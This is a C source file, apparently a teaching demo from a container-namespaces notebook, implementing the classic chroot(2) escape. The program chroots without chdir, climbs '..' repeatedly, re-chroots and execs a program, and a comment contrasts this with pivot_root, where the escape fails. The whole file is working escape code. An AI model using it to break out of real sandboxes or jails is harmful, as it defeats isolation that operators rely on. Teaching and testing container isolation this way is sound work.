/*
 * chroot-escape: the classic way out of a chroot(2) for a process that still has CAP_SYS_CHROOT.
 *
 *   chroot-escape PROGRAM [ARG...]
 *
 * chroot(2) changes the root directory of the calling process but not its working directory. So:
 *   1. make a directory and chroot() into it WITHOUT chdir(): the working directory is now outside the root;
 *   2. chdir("..") many times: ".." stops only at the process's root, which is no longer above us, so the
 *      walk climbs to the real root of the mount namespace;
 *   3. chroot("."): the real root becomes our root again, then run PROGRAM there.
 * Under pivot_root with the old root detached there is nothing above the container's root to climb to:
 * the same steps land back in the container. nsbook's notebook 11 and its tests run it both ways.
 * Build statically (the container has no C library): gcc -static -O2 -o chroot-escape chroot-escape.c
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  const char *sub = "/tmp/nsbook-escape-sub";
  if (argc < 2) {
    fprintf(stderr, "usage: chroot-escape PROGRAM [ARG...]\n");
    return 2;
  }
  if (mkdir(sub, 0700) != 0 && errno != EEXIST) {
    fprintf(stderr, "chroot-escape: mkdir %s: %s\n", sub, strerror(errno));
    return 1;
  }
  if (chdir("/") != 0 || chroot(sub) != 0) {
    fprintf(stderr, "chroot-escape: chroot(%s): %s\n", sub, strerror(errno));
    return 1;
  }
  /* The working directory (the old "/") is now outside our root: climb as far as the kernel lets us. */
  for (int i = 0; i < 256; i++) {
    if (chdir("..") != 0) {
      fprintf(stderr, "chroot-escape: chdir(..): %s\n", strerror(errno));
      return 1;
    }
  }
  if (chroot(".") != 0) {
    fprintf(stderr, "chroot-escape: chroot(.): %s\n", strerror(errno));
    return 1;
  }
  execvp(argv[1], argv + 1);
  fprintf(stderr, "chroot-escape: %s: %s\n", argv[1], strerror(errno));
  return 127;
}
